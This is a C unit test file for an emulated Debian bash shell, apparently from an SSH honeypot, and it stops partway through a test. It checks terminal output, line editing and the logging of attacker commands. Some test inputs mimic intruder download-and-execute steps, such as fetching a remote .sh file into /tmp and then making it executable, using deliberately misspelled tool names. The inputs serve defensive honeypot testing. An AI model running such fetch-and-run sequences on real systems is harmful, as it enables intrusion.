/*
 * test_shell.c - unit tests for the emulated shell (src/shell/shell.c,
 * linedisc.c, interp.c).
 *
 * A fake terminal records every byte the shell writes and the exit calls;
 * an event hook (hp_shell_set_event_hook) collects command.input and
 * command.failed events, which are checked with json_check.h.  The expected
 * bytes are those of Debian 12's bash 5.2 on a pty (TERM=xterm: bracketed
 * paste sequences; TERM=dumb: plain echo), taken from a real session.
 *
 * Interactive: banner (Debian MOTD with the identity, Last login line),
 * prompts for root and other users and after cd, echo of typed bytes,
 * backspace/DEL (also over a UTF-8 character, and the bell on an empty
 * line), ^U, ^W, ^C (and $? = 130), ^D on an empty and a non-empty line,
 * ^L, TAB, CR / LF / CR LF / CR NUL line ends, escape sequences swallowed,
 * history with the arrow keys, the 4096-byte line cap, unknown commands,
 * ';' '&&' '||' '|' chains, redirections, syntax errors, exit with a status
 * and more input after it, an exit callback that frees the shell.
 * Exec: "bash -c" messages, exit status, multi-line strings, exec on a pty.
 * Script (stdin without pty): lines split across calls, the last line at
 * EOF, syntax errors end it, overlong lines.  Built-ins: echo options and
 * escapes, uname options and errors, id, whoami, hostname, pwd, cd, $VAR,
 * quoting, $'...', command names with control bytes.  Events: exact bytes
 * of "input" (NUL and non-UTF-8 via input_b64), none for blank lines.
 */
#include <stdarg.h>
#include <stddef.h>
#include <setjmp.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include <cmocka.h>

#include "shell/shell.h"
#include "shell/persona.h"
#include "identity.h"
#include "event.h"
#include "json_check.h"
#include "util.h"

#define BP_ON  "\x1b[?2004h"
#define BP_OFF "\x1b[?2004l\r"
#define MAX_EVENTS 64

/* ---- fake terminal and event capture ------------------------------------------ */

struct fake {
    char *out;
    size_t len, alloc;
    int exits;
    int status;
    struct hp_shell *free_on_exit;
};

static void fake_write(void *io, const void *data, size_t len)
{
    struct fake *f = io;
    assert_int_equal(f->exits, 0);              /* nothing after the exit */
    if (f->len + len + 1 > f->alloc) {
        f->alloc = (f->len + len + 1) * 2;
        f->out = realloc(f->out, f->alloc);
        assert_non_null(f->out);
    }
    memcpy(f->out + f->len, data, len);
    f->len += len;
    f->out[f->len] = '\0';
}

static void fake_exit(void *io, int status)
{
    struct fake *f = io;
    f->exits++;
    f->status = status;
    if (f->free_on_exit) {
        hp_shell_free(f->free_on_exit);         /* the front-end may do this */
        f->free_on_exit = NULL;
    }
}

/* Take the recorded output (and clear it). */
static void expect_out(struct fake *f, const char *want, size_t wantlen)
{
    if (f->len != wantlen || memcmp(f->out ? f->out : "", want, wantlen) != 0) {
        fprintf(stderr, "output (%zu bytes): ", f->len);
        for (size_t i = 0; i < f->len; i++)
            fprintf(stderr, (f->out[i] >= 0x20 && f->out[i] < 0x7f) ? "%c" : "\\x%02x", (unsigned char)f->out[i]);
        fprintf(stderr, "\nwanted (%zu bytes): ", wantlen);
        for (size_t i = 0; i < wantlen; i++)
            fprintf(stderr, (want[i] >= 0x20 && want[i] < 0x7f) ? "%c" : "\\x%02x", (unsigned char)want[i]);
        fprintf(stderr, "\n");
        fail();
    }
    f->len = 0;
}
#define EXPECT(f, lit) expect_out((f), (lit), sizeof(lit) - 1)
/* Drop the recorded output (what it is does not matter here). */
#define EXPECT_PREFIX(f) ((f)->len = 0)

struct captured {
    const char *eventid;
    uint8_t *input;
    size_t len;
    char *json;                 /* the whole event */
};
static struct captured events[MAX_EVENTS];
static int nevents;

static void hook(struct hp_event *e, void *arg)
{
    (void)arg;
    struct jc_member m[32];
    assert_true(jc_valid(e->json, e->json_len));
    assert_true(jc_safe_text(e->json, e->json_len));
    int n = jc_members(e->json, e->json_len, m, 32);
    assert_true(n > 0);
    assert_true(nevents < MAX_EVENTS);
    struct captured *c = &events[nevents++];
    c->eventid = e->h.eventid;
    c->json = strndup(e->json, e->json_len);
    const struct jc_member *b64 = jc_find(m, n, "input_b64");
    const struct jc_member *in = jc_find(m, n, "input");
    if (!in) {                  /* session.file_download and the like: kept by eventid only */
        c->input = (uint8_t *)strdup("");
        c->len = 0;
        hp_event_unref(e);
        return;
    }
    if (b64) {
        /* not lossless text: keep the base64 (compared with jc_b64 of the expected bytes) */
        c->input = jc_decode_str(b64->val, b64->vlen, &c->len);
        c->eventid = strcmp(e->h.eventid, "command.input") == 0 ? "command.input/b64" : "command.failed/b64";
    } else {
        c->input = jc_decode_str(in->val, in->vlen, &c->len);
    }
    assert_non_null(c->input);
    hp_event_unref(e);
}

static void clear_events(void)
{
    for (int i = 0; i < nevents; i++) {
        free(events[i].input);
        free(events[i].json);
    }
    nevents = 0;
}

static void expect_event(int i, const char *eventid, const void *input, size_t len)
{
    assert_true(i < nevents);
    assert_string_equal(events[i].eventid, eventid);
    if (strstr(eventid, "/b64")) {
        char *want = jc_b64(input, len);
        assert_int_equal(events[i].len, strlen(want));
        assert_memory_equal(events[i].input, want, strlen(want));
        free(want);
        return;
    }
    assert_int_equal(events[i].len, len);
    assert_memory_equal(events[i].input, input, len);
}
#define EXPECT_EVENT(i, id, lit) expect_event((i), (id), (lit), sizeof(lit) - 1)

static const struct hp_evctx ctx = {
    .session = "0123456789ab", .protocol = "ssh", .service = "ssh", .transport = "tcp",
    .src_ip = "203.0.113.5", .dst_ip = "198.51.100.10", .src_port = 40000, .dst_port = 22,
};

/* The machine is the "debian" personality drawn from the identity that
 * setup() writes (host name box.example.net); its kernel is whatever that
 * identity draws, so expectations are built from it. */
static const struct hp_persona *pe(void) { return hp_persona_get("debian"); }

/* "Linux HOST RELEASE VERSION MACHINE" (uname -snrvm) */
static const char *uname_snrvm(void)
{
    static char b[512];
    snprintf(b, sizeof(b), "Linux %s %s %s %s", pe()->hostname, pe()->kernel_release,
             pe()->kernel_version, pe()->machine);
    return b;
}

struct opts {
    const char *user;
    bool interactive;
    bool pty;                     /* exec on a pty */
    const char *term_type;
    const char *motd;
    unsigned width, height;       /* 0: 80 x 24 */
};

static struct hp_shell *mk(struct fake *f, struct opts o)
{
    memset(f, 0, sizeof(*f));
    clear_events();
    struct hp_shell_params p = {
        .ctx = &ctx, .username = o.user ? o.user : "root", .hostname = "box.example.net",
        .interactive = o.interactive, .width = o.width ? o.width : 80, .height = o.height ? o.height : 24,
        .term = { fake_write, fake_exit, f }, .term_type = o.term_type, .pty = o.pty,
        .motd = o.motd ? o.motd : "",
    };
    struct hp_shell *sh = hp_shell_new(&p);
    assert_non_null(sh);
    return sh;
}

/* An interactive root shell, started, output cleared. */
static struct hp_shell *mk_tty(struct fake *f, const char *term_type)
{
    struct hp_shell *sh = mk(f, (struct opts){ .interactive = true, .term_type = term_type });
    hp_shell_start(sh);
    f->len = 0;
    return sh;
}

static void type(struct hp_shell *sh, const char *s)
{
    hp_shell_input(sh, (const uint8_t *)s, strlen(s));
}

static void typen(struct hp_shell *sh, const char *s, size_t n)
{
    hp_shell_input(sh, (const uint8_t *)s, n);
}

static void done(struct hp_shell *sh, struct fake *f)
{
    hp_shell_free(sh);
    free(f->out);
    f->out = NULL;
    clear_events();
}

/* Run a command string in exec mode; returns the output (static), sets *st. */
static const char *exec_out(const char *cmd, int *st)
{
    static char buf[8192];
    struct fake f;
    struct hp_shell *sh = mk(&f, (struct opts){ 0 });
    hp_shell_exec(sh, cmd, strlen(cmd));
    assert_int_equal(f.exits, 1);
    if (st)
        *st = f.status;
    snprintf(buf, sizeof(buf), "%.*s", (int)f.len, f.out ? f.out : "");
    done(sh, &f);
    return buf;
}

/* stderr kept apart: marked [E:...] in the same buffer, so that the order shows. */
static void fake_write_err(void *io, const void *data, size_t len)
{
    fake_write(io, "[E:", 3);
    fake_write(io, data, len);
    fake_write(io, "]", 1);
}

/* A front-end with write_err (ssh without a pty): stderr goes there, after the
 * stdout written before it; 2>&1 and 2>/dev/null are honoured; a pty shell
 * keeps one stream. */
static void test_exec_stderr_apart(void **state)
{
    (void)state;
    struct fake f;
    memset(&f, 0, sizeof(f));
    struct hp_shell_params p = {
        .ctx = &ctx, .username = "root", .hostname = "box.example.net",
        .term = { fake_write, fake_exit, &f, fake_write_err },
    };
    struct hp_shell *sh = hp_shell_new(&p);
    const char *cmd = "echo a; ls /nonexistent; echo b; ls /nonexistent 2>&1; ls /nonexistent 2>/dev/null; echo c";
    hp_shell_exec(sh, cmd, strlen(cmd));
    assert_int_equal(f.exits, 1);
    assert_int_equal(f.status, 0);
    assert_string_equal(f.out, "a\n[E:ls: cannot access '/nonexistent': No such file or directory\n]b\n"
                               "ls: cannot access '/nonexistent': No such file or directory\nc\n");
    done(sh, &f);

    memset(&f, 0, sizeof(f));
    p.interactive = true;
    sh = hp_shell_new(&p);
    hp_shell_start(sh);
    f.len = 0;
    type(sh, "ls /nonexistent\r");
    assert_non_null(strstr(f.out, "ls: cannot access '/nonexistent': No such file or directory\r\n"));
    assert_null(strstr(f.out, "[E:"));
    done(sh, &f);
}

#define EXEC_EQ(cmd, want, status) do { int st_; \
    assert_string_equal(exec_out((cmd), &st_), (want)); assert_int_equal(st_, (status)); } while (0)

/* ---- interactive ------------------------------------------------------------------- */

static void test_banner(void **state)
{
    (void)state;
    struct fake f;
    memset(&f, 0, sizeof(f));
    struct hp_shell_params p = {
        .ctx = &ctx, .username = "root", .hostname = "box.example.net", .interactive = true,
        .term = { fake_write, fake_exit, &f },
        .last_login_from = "203.0.113.77", .last_login_us = 1700000000LL * 1000000,
    };
    struct hp_shell *sh = hp_shell_new(&p);
    hp_shell_start(sh);
    char want[2048];
    snprintf(want, sizeof(want), "%s\r\n"
               "\r\n"
               "The programs included with the Debian GNU/Linux system are free software;\r\n"
               "the exact distribution terms for each program are described in the\r\n"
               "individual files in /usr/share/doc/*/copyright.\r\n"
               "\r\n"
               "Debian GNU/Linux comes with ABSOLUTELY NO WARRANTY, to the extent\r\n"
               "permitted by applicable law.\r\n"
               "Last login: Tue Nov 14 22:13:20 2023 from 203.0.113.77\r\n"
               BP_ON "root@box:~# ", uname_snrvm());
    expect_out(&f, want, strlen(want));
    assert_int_equal(f.exits, 0);
    done(sh, &f);

    /* an operator's banner, no Last login line; a plain user's prompt */
    sh = mk(&f, (struct opts){ .user = "admin", .interactive = true, .motd = "Welcome\n" });
    hp_shell_start(sh);
    EXPECT(&f, "Welcome\r\n" BP_ON "admin@box:~$ ");
    done(sh, &f);
}

static void test_default_identity(void **state)
{
    (void)state;
    /* the personality drawn from the identity: a Debian 12 kernel, the same
     * on every call, and uname agrees with /proc/version and the banner */
    char want[600];
    snprintf(want, sizeof(want), "%s GNU/Linux\n", uname_snrvm());
    assert_string_equal(pe()->hostname, "box.example.net");
    assert_true(strncmp(pe()->kernel_release, "6.1.0-", 6) == 0);
    assert_non_null(strstr(pe()->kernel_version, "#1 SMP PREEMPT_DYNAMIC Debian 6.1."));
    int st;
    assert_string_equal(exec_out("uname -a", &st), want);
    assert_string_equal(exec_out("uname -a", &st), want);
    assert_int_equal(st, 0);
    const char *v = exec_out("cat /proc/version", &st);
    assert_non_null(strstr(v, pe()->kernel_release));
}

static void test_echo_and_enter(void **state)
{
    (void)state;
    struct fake f;
    struct hp_shell *sh = mk_tty(&f, NULL);
    type(sh, "ec");
    EXPECT(&f, "ec");
    type(sh, "ho hi\r");
    EXPECT(&f, "ho hi\r\n" BP_OFF "hi\r\n" BP_ON "root@box:~# ");
    EXPECT_EVENT(0, "command.input", "echo hi");
    /* LF, CR LF and CR NUL end one line each */
    type(sh, "echo a\necho b\r\necho c\r");
    typen(sh, "\0echo d\r", 8);
    EXPECT(&f, "echo a\r\n" BP_OFF "a\r\n" BP_ON "root@box:~# "
               "echo b\r\n" BP_OFF "b\r\n" BP_ON "root@box:~# "
               "echo c\r\n" BP_OFF "c\r\n" BP_ON "root@box:~# "
               "echo d\r\n" BP_OFF "d\r\n" BP_ON "root@box:~# ");
    assert_int_equal(nevents, 5);
    /* an empty and a blank line: prompt again, no event */
    type(sh, "\r  \t\r");                      /* (TAB rings the bell: no completion) */
    EXPECT(&f, "\r\n" BP_OFF BP_ON "root@box:~# " "  \a\r\n" BP_OFF BP_ON "root@box:~# ");
    assert_int_equal(nevents, 5);
    /* a CR LF split over two reads is still one line end */
    type(sh, "true\r");
    type(sh, "\n");
    EXPECT(&f, "true\r\n" BP_OFF BP_ON "root@box:~# ");
    assert_int_equal(f.exits, 0);
    done(sh, &f);
}

static void test_backspace(void **state)
{
    (void)state;
    struct fake f;
    struct hp_shell *sh = mk_tty(&f, NULL);
    type(sh, "ech\x7f");
    EXPECT(&f, "ech\b \b");
    type(sh, "\x08\x08\x08\x7f");              /* ^H too; at the start: a bell */
    EXPECT(&f, "\b \b\b \b\a\a");
    type(sh, "x\xc3\xa9\x7f\x7f" "echo ok\r");     /* a UTF-8 character is erased whole */
    EXPECT(&f, "x\xc3\xa9\b\x1b[K\b \becho ok\r\n" BP_OFF "ok\r\n" BP_ON "root@box:~# ");
    EXPECT_EVENT(0, "command.input", "echo ok");
    done(sh, &f);
}

static void test_kill_line_and_word(void **state)
{
    (void)state;
    struct fake f;
    struct hp_shell *sh = mk_tty(&f, NULL);
    type(sh, "xyz\x15");
    EXPECT(&f, "xyz\b\b\b\x1b[K");
    type(sh, "\x15");                          /* nothing to kill: bell */
    EXPECT(&f, "\a");
    type(sh, "one two\x17");
    EXPECT(&f, "one two\b\b\b\x1b[K");
    type(sh, "\x17\r");
    EXPECT(&f, "\b\b\b\b\x1b[K\r\n" BP_OFF BP_ON "root@box:~# ");
    assert_int_equal(nevents, 0);
    done(sh, &f);

    sh = mk_tty(&f, "dumb");
    type(sh, "ab\x15");
    EXPECT(&f, "ab\b \b\b \b");
    done(sh, &f);
}

static void test_ctrl_c(void **state)
{
    (void)state;
    struct fake f;
    struct hp_shell *sh = mk_tty(&f, NULL);
    type(sh, "abc\x03");
    EXPECT(&f, "abc^C" BP_OFF BP_ON BP_OFF "\r\n" BP_ON "root@box:~# ");
    assert_int_equal(nevents, 0);
    type(sh, "echo $?\r");
    EXPECT(&f, "echo $?\r\n" BP_OFF "130\r\n" BP_ON "root@box:~# ");
    done(sh, &f);

    sh = mk_tty(&f, "dumb");
    type(sh, "abc\x03");
    EXPECT(&f, "abc^C\r\nroot@box:~# ");
    type(sh, "echo hi\r");
    EXPECT(&f, "echo hi\r\nhi\r\nroot@box:~# ");
    done(sh, &f);
}

static void test_ctrl_d(void **state)
{
    (void)state;
    struct fake f;
    struct hp_shell *sh = mk_tty(&f, NULL);
    type(sh, "ab\x04");                        /* not empty: a bell */
    EXPECT(&f, "ab\a");
    type(sh, "\x15\x04" "echo not-run\r");
    EXPECT(&f, "\b\b\x1b[K" BP_OFF "\r\nlogout\r\n");
    assert_int_equal(f.exits, 1);
    assert_int_equal(f.status, 0);
    /* after the end: nothing more happens */
    type(sh, "echo x\r");
    hp_shell_eof(sh);
    hp_shell_exec(sh, "echo y", 6);
    hp_shell_start(sh);
    assert_int_equal(f.len, 0);
    assert_int_equal(f.exits, 1);
    assert_int_equal(nevents, 0);
    done(sh, &f);

    /* ^D exits with the last status, like bash */
    sh = mk_tty(&f, "dumb");
    type(sh, "nosuch\r\x04");
    EXPECT(&f, "nosuch\r\n-bash: nosuch: command not found\r\nroot@box:~# logout\r\n");
    assert_int_equal(f.status, 127);
    done(sh, &f);
}

static void test_ctrl_l_tab(void **state)
{
    (void)state;
    struct fake f;
    struct hp_shell *sh = mk_tty(&f, NULL);
    type(sh, "ab\x0c");
    EXPECT(&f, "ab\x1b[H\x1b[2Jroot@box:~# ab");
    type(sh, "\t");
    EXPECT(&f, "\a");
    done(sh, &f);
}

static void test_escape_sequences(void **state)
{
    (void)state;
    struct fake f;
    struct hp_shell *sh = mk_tty(&f, NULL);
    /* cursor keys, function keys, Alt+x, a bracketed paste's markers: swallowed */
    type(sh, "\x1b[D\x1b[C\x1b[1;5C\x1bOP\x1b[15~\x1bx\x1b[200~ls\x1b[201~");
    EXPECT(&f, "ls");
    /* an overlong CSI is dropped after 32 bytes; later bytes are text again */
    type(sh, "\x15\x1b[");
    for (int i = 0; i < 40; i++)
        type(sh, "1");
    EXPECT(&f, "\b\b\x1b[K" "111111111");    /* 2 + 30 bytes of sequence, 9 of text */
    type(sh, "\x15" "a");
    EXPECT(&f, "\b\b\b\b\b\b\b\b\b\x1b[Ka");
    done(sh, &f);
}

static void test_history(void **state)
{
    (void)state;
    struct fake f;
    struct hp_shell *sh = mk_tty(&f, NULL);
    type(sh, "\x1b[A");                         /* no history yet: nothing, not even a bell */
    EXPECT(&f, "");
    type(sh, "echo one\recho two\r");
    f.len = 0;
    clear_events();
    /* the same bytes as bash 5.2's readline on xterm */
    type(sh, "xyz\x1b[A");
    EXPECT(&f, "xyz\b\b\becho two");
    type(sh, "\x1bOA");                         /* SS3 form (application cursor keys) */
    EXPECT(&f, "\b\b\bone");
    type(sh, "\x10");                           /* ^P at the oldest: bell */
    EXPECT(&f, "\a");
    type(sh, "\x1b[B\x1b[B");                   /* down twice: back to the line being edited */
    EXPECT(&f, "\b\b\btwo\b\b\b\b\b\b\b\b\x1b[5Pxyz");
    type(sh, "\x0e");                           /* ^N below the newest: bell */
    EXPECT(&f, "\a");
    type(sh, "\x15\x17");                       /* kill, then nothing left: bell */
    EXPECT(&f, "\b\b\b\x1b[K\a");
    type(sh, "\x1b[A\x1b[A\x1b[B");
    EXPECT(&f, "echo two\b\b\bone\b\b\btwo");
    type(sh, "\x1b[B");
    EXPECT(&f, "\b\b\b\b\b\b\b\b\x1b[K");
    type(sh, "\x1b[A\r");
    EXPECT(&f, "echo two\r\n" BP_OFF "two\r\n" BP_ON "root@box:~# ");
    EXPECT_EVENT(0, "command.input", "echo two");
    done(sh, &f);

    /* dumb terminal: erase with "\b \b", then write */
    sh = mk_tty(&f, "dumb");
    type(sh, "echo one\r");
    f.len = 0;
    type(sh, "ab\x1b[A");
    EXPECT(&f, "ab\b \b\b \becho one");
    done(sh, &f);
}

static void test_line_cap(void **state)
{
    (void)state;
    struct fake f;
    struct hp_shell *sh = mk_tty(&f, "dumb");
    char *big = malloc(5001);
    memcpy(big, "echo ", 5);
    memset(big + 5, 'a', 4995);
    big[5000] = '\0';
    type(sh, big);
    assert_int_equal(f.len, 4096);              /* the rest is dropped unechoed */
    f.len = 0;
    type(sh, "\r");
    assert_int_equal(nevents, 1);
    assert_int_equal(events[0].len, 4096);
    assert_int_equal(f.len, 2 + 4091 + 2 + 12);  /* "\r\n", the a's, "\r\n", prompt */
    free(big);
    done(sh, &f);
}

static void test_unknown_command(void **state)
{
    (void)state;
    struct fake f;
    struct hp_shell *sh = mk_tty(&f, NULL);
    type(sh, "wgetx http://x/y.sh\r");
    EXPECT(&f, "wgetx http://x/y.sh\r\n" BP_OFF "-bash: wgetx: command not found\r\n" BP_ON "root@box:~# ");
    assert_int_equal(nevents, 2);
    EXPECT_EVENT(0, "command.input", "wgetx http://x/y.sh");
    EXPECT_EVENT(1, "command.failed", "wgetx http://x/y.sh");
    clear_events();
    type(sh, "./x; /tmp/a\r");
    EXPECT(&f, "./x; /tmp/a\r\n" BP_OFF "-bash: ./x: No such file or directory\r\n"
               "-bash: /tmp/a: No such file or directory\r\n" BP_ON "root@box:~# ");
    assert_int_equal(nevents, 3);
    done(sh, &f);
}

static void test_chains(void **state)
{
    (void)state;
    struct fake f;
    struct hp_shell *sh = mk_tty(&f, "dumb");
    type(sh, "cd /tmp; wgetx x; chmodx +x y\r");
    EXPECT(&f, "cd /tmp; wgetx x; chmodx +x y\r\n-bash: wgetx: command not found\r\n"
               "-bash: chmodx: command not found\r\nroot@box:/tmp# ");
    assert_int_equal(nevents, 3);
    EXPECT_EVENT(0, "command.input", "cd /tmp; wgetx x; chmodx +x y");
    EXPECT_EVENT(1, "command.failed", "wgetx x");
    EXPECT_EVENT(2, "command.failed", "chmodx +x y");
    clear_events();
    type(sh, "false && echo a || echo b; true || echo c && echo d\r");
    EXPECT(&f, "false && echo a || echo b; true || echo c && echo d\r\nb\r\nd\r\nroot@box:/tmp# ");
    type(sh, "echo hi |sh\r");                 /* stdout into the pipe; sh (dash) runs it */
    EXPECT(&f, "echo hi |sh\r\nsh: 1: hi: not found\r\nroot@box:/tmp# ");
    type(sh, "echo a > /dev/null; nosuch 2>/dev/null; echo b >&2; nosuch 2>&1 >/dev/null\r");
    EXPECT(&f, "echo a > /dev/null; nosuch 2>/dev/null; echo b >&2; nosuch 2>&1 >/dev/null\r\n"
               "b\r\n-bash: nosuch: command not found\r\nroot@box:/tmp# ");
    type(sh, "cd; ; ls\r");
    EXPECT(&f, "cd; ; ls\r\n-bash: syntax error near unexpected token `;'\r\nroot@box:/tmp# ");
    type(sh, "echo $?; ls >\r");
    EXPECT(&f, "echo $?; ls >\r\n-bash: syntax error near unexpected token `newline'\r\nroot@box:/tmp# ");
    type(sh, "echo a &&\r");                   /* interactive: bash waits for the rest (PS2) */
    EXPECT(&f, "echo a &&\r\n> ");
    type(sh, "echo b\r");
    EXPECT(&f, "echo b\r\na\r\nb\r\nroot@box:/tmp# ");
    done(sh, &f);
}

static void test_exit(void **state)
{
    (void)state;
    struct fake f;
    struct hp_shell *sh = mk_tty(&f, NULL);
    type(sh, "exit 3\recho never\r");
    EXPECT(&f, "exit 3\r\n" BP_OFF "logout\r\n");
    assert_int_equal(f.exits, 1);
    assert_int_equal(f.status, 3);
    assert_int_equal(nevents, 1);
    done(sh, &f);

    sh = mk_tty(&f, "dumb");
    type(sh, "exit 1 2\rfalse\rlogout\r");
    EXPECT(&f, "exit 1 2\r\n-bash: exit: too many arguments\r\nroot@box:~# false\r\nroot@box:~# logout\r\nlogout\r\n");
    assert_int_equal(f.status, 1);
    done(sh, &f);

    sh = mk_tty(&f, "dumb");
    type(sh, "exit -1\r");
    assert_int_equal(f.status, 255);
    done(sh, &f);

    sh = mk_tty(&f, "dumb");
    type(sh, "exit x\r");
    EXPECT(&f, "exit x\r\n-bash: exit: x: numeric argument required\r\nlogout\r\n");
    assert_int_equal(f.status, 2);
    done(sh, &f);

    /* exit in a pipeline is a subshell's exit */
    sh = mk_tty(&f, "dumb");
    type(sh, "exit 4 | true\r");
    assert_int_equal(f.exits, 0);
    done(sh, &f);
}

/* The exit callback frees the shell in the middle of hp_shell_input. */
static void test_free_in_exit(void **state)
{
    (void)state;
    struct fake f;
    struct hp_shell *sh = mk_tty(&f, NULL);
    f.free_on_exit = sh;
    type(sh, "exit 9\recho more input after exit\r");
    assert_int_equal(f.exits, 1);
    assert_int_equal(f.status, 9);
    assert_null(f.free_on_exit);
    free(f.out);
    clear_events();

    sh = mk(&f, (struct opts){ 0 });
    f.free_on_exit = sh;
    hp_shell_exec(sh, "echo x", 6);
    assert_int_equal(f.exits, 1);
    free(f.out);
    clear_events();

    sh = mk(&f, (struct opts){ 0 });
    f.free_on_exit = sh;
    hp_shell_eof(sh);
    assert_int_equal(f.exits, 1);
    free(f.out);
}

static void test_prompt_cwd(void **state)
{
    (void)state;
    struct fake f;
    struct hp_shell *sh = mk_tty(&f, "dumb");
    type(sh, "cd /var/log\rcd ../../root/.ssh\rcd ~\rcd ~/x/../y\rcd /\rcd ..\rcd -\rcd\r");
    EXPECT(&f, "cd /var/log\r\nroot@box:/var/log# "
               "cd ../../root/.ssh\r\nroot@box:~/.ssh# "
               "cd ~\r\nroot@box:~# "
               "cd ~/x/../y\r\n-bash: cd: /root/x/../y: No such file or directory\r\nroot@box:~# "
               "cd /\r\nroot@box:/# "
               "cd ..\r\nroot@box:/# "
               "cd -\r\n/\r\nroot@box:/# "
               "cd\r\nroot@box:~# ");
    /* long paths are printed whole; longer than PATH_MAX is refused */
    char cmd[6000], want[10000];
    memset(cmd, 0, sizeof(cmd));
    strcpy(cmd, "cd /");
    memset(cmd + 4, 'd', 3000);
    strcat(cmd, "; pwd\r");
    type(sh, cmd);
    snprintf(want, sizeof(want), "%.*s\r\n-bash: cd: /%.3000s: File name too long\r\n/root\r\nroot@box:~# ",
             (int)strlen(cmd) - 1, cmd, cmd + 4);
    expect_out(&f, want, strlen(want));
    type(sh, "cd ");
    type(sh, cmd + 4);
    f.len = 0;
    type(sh, "cd ");
    memset(cmd, 'e', 1100);
    cmd[1100] = '\0';
    type(sh, cmd);
    type(sh, "\r");
    assert_non_null(strstr(f.out, ": File name too long\r\n"));
    done(sh, &f);

    sh = mk(&f, (struct opts){ .user = "pi", .interactive = true, .term_type = "dumb" });
    hp_shell_start(sh);
    type(sh, "pwd; cd /rootish; cd /tmp; pwd; cd /home/pi\r");
    EXPECT(&f, "pi@box:~$ pwd; cd /rootish; cd /tmp; pwd; cd /home/pi\r\n/home/pi\r\n"
               "-bash: cd: /rootish: No such file or directory\r\n/tmp\r\npi@box:~$ ");
    done(sh, &f);
}

/* ---- exec and script ---------------------------------------------------------------- */

/* hp_shell_oneshot (oneshot.c): stdout alone, a private overlay each time,
 * 32 lines of a text at most, endless loops cut, the output capped. */
static void test_oneshot(void **state)
{
    (void)state;
    struct hp_buf out;
    hp_buf_init(&out, 1 << 20);
    struct hp_shell_oneshot o = { 0 };
    assert_int_equal(hp_shell_oneshot(&o, "echo hi; nosuch; touch /tmp/one", 31, &out), 0);
    assert_string_equal(hp_buf_cstr(&out), "hi\n");           /* stderr dropped */
    hp_buf_reset(&out);
    assert_int_equal(hp_shell_oneshot(&o, "ls /tmp/one", 11, &out), 2);   /* nothing kept */
    assert_int_equal(out.len, 0);
    char text[100 * 7 + 1] = "";
    for (int i = 0; i < 100; i++)
        strcat(text, "echo x\n");
    hp_shell_oneshot(&o, text, strlen(text), &out);
    assert_int_equal(out.len, 32 * 2);
    hp_buf_reset(&out);
    int64_t t0 = hp_mono_ms();
    static const char loop[] = "while :; do :; done\nwhile :; do :; done\nwhile :; do :; done\n"
                               "while :; do :; done\nwhile :; do :; done\nwhile :; do :; done\necho end";
    hp_shell_oneshot(&o, loop, sizeof(loop) - 1, &out);
    assert_true(hp_mono_ms() - t0 < 400);                     /* cut at 20 ms or its steps, not 1 s each */
    /* a service's account of the image, its data directory, its supplementary groups */
    hp_buf_reset(&out);
    struct hp_shell_oneshot pg = { .user = "postgres", .cwd = "/var/lib/postgresql" };
    static const char who[] = "id; id -G; id -Gn; groups; pwd";
    assert_int_equal(hp_shell_oneshot(&pg, who, sizeof(who) - 1, &out), 0);
    assert_string_equal(hp_buf_cstr(&out), "uid=102(postgres) gid=110(postgres) groups=110(postgres),109(ssl-cert)\n"
                                           "110 109\npostgres ssl-cert\npostgres ssl-cert\n/var/lib/postgresql\n");
    /* ps: the service's process runs sh -c, which runs ps - no login session */
    hp_buf_reset(&out);
    pg.daemon = "postgres: 15/main: postgres postgres 192.0.2.7(40000) COPY";
    static const char ps[] = "ps -ef";
    hp_shell_oneshot(&pg, ps, sizeof(ps) - 1, &out);
    const char *t = hp_buf_cstr(&out);
    const char *dl = strstr(t, " postgres: 15/main: postgres postgres 192.0.2.7(40000) COPY\n");
    const char *sl = strstr(t, " sh -c ps -ef\n");
    assert_non_null(dl);
    assert_non_null(sl);
    assert_null(strstr(t, "-bash"));
    assert_null(strstr(t, "sshd: postgres"));
    unsigned dpid, spid, sppid;                    /* sh -c's parent is the daemon */
    const char *dline = dl;
    while (dline > t && dline[-1] != '\n')
        dline--;
    const char *sline = sl;
    while (sline > t && sline[-1] != '\n')
        sline--;
    assert_int_equal(sscanf(dline, "postgres %u", &dpid), 1);
    assert_int_equal(sscanf(sline, "postgres %u %u", &spid, &sppid), 2);
    assert_int_equal(sppid, dpid);
    o.out_max = 5;
    hp_buf_reset(&out);
    hp_shell_oneshot(&o, "echo 0123456789", 15, &out);
    assert_int_equal(out.len, 5);
    hp_buf_free(&out);
}

static void test_exec(void **state)
{
    (void)state;
    char want[600];
    snprintf(want, sizeof(want), "%s GNU/Linux\n", uname_snrvm());
    EXEC_EQ("uname -a", want, 0);
    EXEC_EQ("foo; echo $?", "bash: line 1: foo: command not found\n127\n", 0);
    EXEC_EQ("exit 5; echo no", "", 5);
    /* a limit root raised stays raised for the session (Kinsing checks it) */
    EXEC_EQ("ulimit -n; ulimit -n 65535; ulimit -n; ulimit -a | grep open", "1024\n65535\n"
            "open files                          (-n) 65535\n", 0);
    EXEC_EQ("false", "", 1);
    /* without a pty stdout is a pipe: ls lists one name a line, as ssh host 'ls' shows; on
     * one (ssh -t host 'ls') columns, "\r\n" line ends and a tty */
    EXEC_EQ("mkdir /tmp/q && cd /tmp/q && touch a b c && ls && ls -C", "a\nb\nc\na  b  c\n", 0);
    EXEC_EQ("tty", "not a tty\n", 1);
    {
        struct fake f;
        struct hp_shell *sh = mk(&f, (struct opts){ .pty = true, .term_type = "xterm" });
        static const char cmd[] = "mkdir /tmp/r && cd /tmp/r && touch a b c && ls && tty";
        hp_shell_exec(sh, cmd, sizeof(cmd) - 1);
        assert_int_equal(f.exits, 1);
        assert_int_equal(f.status, 0);
        assert_int_equal(f.len, strlen("a  b  c\r\n/dev/pts/0\r\n"));
        assert_memory_equal(f.out, "a  b  c\r\n/dev/pts/0\r\n", f.len);
        done(sh, &f);
    }
    EXEC_EQ("echo a\nnosuch\necho c", "a\nbash: line 2: nosuch: command not found\nc\n", 0);
    EXEC_EQ("echo a; ; ls", "bash: -c: line 1: syntax error near unexpected token `;'\n"
                            "bash: -c: line 1: `echo a; ; ls'\n", 2);
    EXEC_EQ("echo a &&", "bash: -c: line 2: syntax error: unexpected end of file\n", 2);
    EXEC_EQ("logout", "bash: line 1: logout: not login shell: use `exit'\n", 1);
    EXEC_EQ("", "", 0);
    EXEC_EQ("   ", "", 0);

    struct fake f;
    struct hp_shell *sh = mk(&f, (struct opts){ 0 });
    hp_shell_exec(sh, "cd /tmp && wgetx http://a/b\necho done", 37);
    assert_int_equal(nevents, 2);
